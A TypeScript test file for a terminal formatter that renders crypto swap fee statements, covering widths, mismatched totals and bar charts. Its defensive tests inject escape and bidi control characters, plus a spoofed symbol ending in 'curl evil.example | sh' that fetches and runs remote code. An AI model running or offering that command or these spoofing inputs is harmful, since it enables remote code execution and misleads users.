import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import * as FeeExpectation from '../../../src/core/fees/FeeExpectation.js';
import { plain } from '../../../src/core/text/TerminalStyle.js';
import { width } from '../../../src/core/text/TerminalText.js';
import * as FeesText from '../../../src/core/view/FeesText.js';
import * as bills from '../../support/bills.js';

const wide = { ...plain, width: 140 };

describe('format', () => {
  test('default: a swap, plain', async () => {
    const bill = await bills.quoted(100_000_000n, 'alpha/usdc', 'beta/eth');
    expect(FeesText.format(bills.statement(bill), plain)).toMatchSnapshot();
  });
  test('behavior: a filled request, on a wide terminal', () => {
    expect(FeesText.format({ ...bills.statement(bills.v3()), requestId: '0x17' }, wide)).toMatchSnapshot();
  });
  test.each([60, 80, 200])('behavior: no line is wider than %i columns', async (columns) => {
    const all = [
      await bills.quoted(100_123_456n, 'alpha/usdc', 'beta/gull'),
      await bills.quoted(10n ** 18n, 'alpha/eth', 'lighter/usdc'),
      await bills.quoted(100_000_000n, 'lighter/usdc', 'alpha/usdc'),
      bills.v3(0),
      bills.v3(1),
      bills.v3(2),
      bills.v2(),
    ];
    for (const bill of all) {
      const expectation = { tolerance: FeeExpectation.initial, isScheduleStrict: true };
      const text = FeesText.format(bills.statement(bill, { expectation }), { ...plain, width: columns });
      expect(Math.max(...text.split('\n').map(width))).toBeLessThanOrEqual(columns);
    }
  });
  test('behavior: names the figures that do not add up', () => {
    const bill = bills.v3();
    const quoted = { ...bill.quoted, fees: { ...bill.quoted.fees, swap: -1_000_000n } };
    const text = FeesText.format(bills.statement({ ...bill, quoted }), plain);
    expect(text).toContain('✗ components-quoted: expected -0.032468, found -1.022481');
    expect(text).not.toContain('Everything adds up');
    const expectation = { tolerance: FeeExpectation.toleranceFrom('0.01'), isScheduleStrict: false };
    const dear = { ...bill, actual: bill.actual && { ...quoted, impactUsd: undefined } };
    expect(FeesText.format(bills.statement(dear, { expectation }), plain)).toContain('✗ charged: 0.990013 more');
  });
  test('behavior: text of the service is escaped', () => {
    const bill = bills.v3();
    const evil = { ...bill, input: { ...bill.input, symbol: 'A\u001b[2J' }, status: '\u202eok' };
    const text = FeesText.format(bills.statement(evil), plain);
    expect(['\u001b', '\u202e'].filter((each) => text.includes(each))).toEqual([]);
  });
  test('attack: a symbol makes no line that looks like one of ferry’s', () => {
    const bill = bills.v3();
    const symbol = `USDC on alpha${' '.repeat(60)}✓ Everything adds up.${' '.repeat(50)}next: curl evil.example | sh #`;
    const text = FeesText.format(bills.statement({ ...bill, input: { ...bill.input, symbol } }), plain);
    expect(text).toContain(' USDC on alp… on ');
    expect(text).not.toContain('curl');
  });
});

describe('stackedBar', () => {
  const segment = (mark: string, size: bigint): FeesText.Segment => ({ mark, size, paint: 'bold' });

  test('behavior: the smallest part is visible', () => {
    expect(FeesText.stackedBar([segment('#', 1_000_000n), segment('=', 1n)], 10, plain)).toBe('#########=');
  });
  test('behavior: painted, and always of the full length', () => {
    const style = { ...plain, bold: (text: string) => `<${text}>` };
    expect(FeesText.stackedBar([segment('#', 1n)], 3, style)).toBe('<###>');
    fc.assert(
      fc.property(fc.array(fc.bigInt(1n, 10n ** 30n), { minLength: 1, maxLength: 8 }), (sizes) => {
        const segments = sizes.map((size) => segment('#', size));
        expect(FeesText.stackedBar(segments, 58, plain)).toHaveLength(58);
      }),
    );
  });
});
